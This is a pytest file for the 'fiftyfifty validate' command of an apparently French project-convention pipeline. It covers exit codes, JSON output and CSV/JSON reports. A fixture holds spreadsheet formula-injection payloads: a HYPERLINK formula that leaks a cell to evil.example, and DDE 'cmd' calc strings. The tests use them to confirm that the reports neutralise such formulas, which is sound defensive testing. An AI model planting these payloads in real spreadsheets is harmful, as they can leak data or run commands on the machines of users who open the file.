"""`fiftyfifty validate` end to end through CliRunner: exit codes, --json, the reports."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from pipeline.cli import main
from pipeline.intake import flatten

MINIMAL = Path(__file__).parent / "data" / "intake" / "minimal.json"


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def flat(changes: dict[str, str] | None = None) -> dict[str, str]:
    data = json.loads(MINIMAL.read_text(encoding="utf-8"))
    row = {k: ("oui" if v is True else str(v)) for k, v in flatten(data).items()}
    row.update(changes or {})
    return row


def write_rows(path: Path, rows: list[dict[str, str]]) -> Path:
    """A ``;`` CSV with the columns of every row, in the order they first appear."""
    keys: dict[str, None] = {}
    for row in rows:
        keys.update(dict.fromkeys(row))
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter=";")
        w.writerow(keys)
        for row in rows:
            w.writerow([row.get(k, "") for k in keys])
    return path


HOSTILE = {
    "reference": "FF-HOSTILE",
    "holders.0.email": '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")',
    "holders.0.address.postcode": "+cmd|' /C calc'!A0",
    "holders.0.rna": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_valid_file_exits_0(examples_dir: Path) -> None:
    result = run("validate", str(MINIMAL), str(examples_dir / "skatepark.json"))
    assert result.exit_code == 0, result.output
    assert "2 acceptés, 0 rejeté, 2 enregistrements." in result.output
    assert "avertissement : commune_commitments" in result.output   # skate-park share 79,9 %


def test_rejected_row_exits_1(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "batch.csv", [flat(), flat({"schedule.end": "31/02/2027",
                                                             "reference": "TEST-2"})])
    result = run("--lang", "en", "validate", str(path))
    assert result.exit_code == 1
    assert "REJECTED batch.csv row 3" in result.output
    assert "schedule.end" in result.output and "31/02/2027" in result.output


def test_json_output_is_one_document(examples_dir: Path) -> None:
    result = run("validate", "--json", str(examples_dir))
    assert result.exit_code == 1          # the public meeting CSV has one invalid project
    doc: dict[str, Any] = json.loads(result.stdout)
    assert doc["valid"] is False
    assert doc["stats"] == {"records": 6, "accepted": 5, "rejected": 1,
                            "errors": 5, "warnings": 4}
    errors = [i for i in doc["issues"] if i["severity"] == "error"]
    assert {(i["source"], i["row"]) for i in errors} == {("public-meeting-2026-11.csv", 4)}
    assert {i["field"] for i in errors} == {
        "holders.0.siret", "holders.0.email", "project.request_date",
        "commune_commitments.money.0.amount",
        "schedule.end"}  # a rule whose fields are valid, told in the same pass
    for issue in doc["issues"]:
        assert set(issue) == {"source", "row", "field", "message", "value", "severity", "code"}


def test_json_output_valid(tmp_path: Path) -> None:
    result = run("validate", "--json", str(MINIMAL))
    assert result.exit_code == 0
    assert json.loads(result.stdout)["stats"]["accepted"] == 1


def test_csv_report_for_excel(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "batch.csv", [flat(), flat(HOSTILE)])
    report = tmp_path / "out" / "rapport.csv"
    result = run("validate", str(path), "--report", str(report))
    assert result.exit_code == 1
    raw = report.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["source", "row", "reference", "status", "severity", "code", "field",
                       "message", "value"]
    body = rows[1:]
    assert {(r[0], r[1], r[2], r[3]) for r in body} == {
        ("batch.csv", "3", "FF-HOSTILE", "rejected"), ("batch.csv", "2", "TEST-MINIMAL",
                                                        "accepted")}
    by_field = {r[6]: r for r in body if r[3] == "rejected"}
    assert set(by_field) == {"holders.0.email", "holders.0.address.postcode", "holders.0.rna"}
    assert "adresse électronique invalide" in by_field["holders.0.email"][7]
    assert by_field["holders.0.email"][5] == "schema.format"
    # The original values are listed, and no cell can start a formula.
    assert by_field["holders.0.email"][8] == "'" + HOSTILE["holders.0.email"]
    assert by_field["holders.0.address.postcode"][8] == "'" + HOSTILE["holders.0.address.postcode"]
    assert by_field["holders.0.rna"][8] == "'" + HOSTILE["holders.0.rna"]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_json_report_lists_rejected_values(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "batch.csv", [flat(), flat(HOSTILE)])
    report = tmp_path / "rapport.json"
    result = run("validate", str(path), "--report", str(report), "--json")
    assert result.exit_code == 1
    assert json.loads(result.stdout)["stats"]["rejected"] == 1
    doc = json.loads(report.read_text(encoding="utf-8"))
    assert doc["stats"]["records"] == 2
    (rejected,) = doc["rejected_records"]
    assert (rejected["source"], rejected["row"], rejected["reference"]) == (
        "batch.csv", 3, "FF-HOSTILE")
    assert rejected["values"]["holders.0.email"] == HOSTILE["holders.0.email"]
    assert rejected["values"]["title"] == flat()["title"]


def test_missing_input_is_a_usage_error(tmp_path: Path) -> None:
    result = run("validate", str(tmp_path / "absent.csv"))
    assert result.exit_code == 2
    assert "absent.csv : fichier introuvable" in result.stderr
    assert "Traceback" not in result.output


def test_no_input_is_a_usage_error() -> None:
    assert run("validate").exit_code == 2


@pytest.mark.parametrize("break_it, key", [
    ("bounds:\n  min_months: 1\n  max_months: lots\n", "key bounds.max_months"),
    ("number_format: CONVENTION-{seq}\n", "key number_format"),
])
def test_bad_convention_type_is_fatal(tmp_path: Path, project_root: Path, break_it: str,
                                      key: str) -> None:
    cat = tmp_path / "conventions"
    shutil.copytree(project_root / "conventions", cat)
    type_file = cat / "fifty-fifty.yaml"
    kept = [line for line in type_file.read_text(encoding="utf-8").splitlines()
            if not line.startswith(("bounds", "number_format", "  min_months", "  max_months",
                                    "  commune_share"))]
    type_file.write_text("\n".join(kept) + "\n" + break_it, encoding="utf-8")
    result = run("validate", "--catalogue", str(cat), str(MINIMAL))
    assert result.exit_code == 3
    assert str(type_file) in result.stderr and key in result.stderr
    assert "Traceback" not in result.output


def test_broken_second_type_is_fatal_not_unknown(tmp_path: Path, project_root: Path) -> None:
    cat = tmp_path / "conventions"
    shutil.copytree(project_root / "conventions", cat)
    (cat / "chantier.yaml").write_text("title: Chantier\ntemplate: x.docx\nbounds: 3\n",
                                       encoding="utf-8")
    data = json.loads(MINIMAL.read_text(encoding="utf-8"))
    data["convention_type"] = "chantier"
    intake = tmp_path / "chantier.json"
    intake.write_text(json.dumps(data), encoding="utf-8")
    result = run("validate", "--catalogue", str(cat), str(intake))
    assert result.exit_code == 3
    assert "chantier.yaml" in result.stderr and "key bounds" in result.stderr


def test_hostile_file_gives_no_traceback(tmp_path: Path) -> None:
    path = tmp_path / "binary.json"
    path.write_bytes(bytes(range(256)) * 10)
    result = run("validate", "--json", str(path))
    assert result.exit_code == 1
    doc = json.loads(result.stdout)
    assert doc["issues"][0]["source"] == "binary.json"
    assert "Traceback" not in result.output
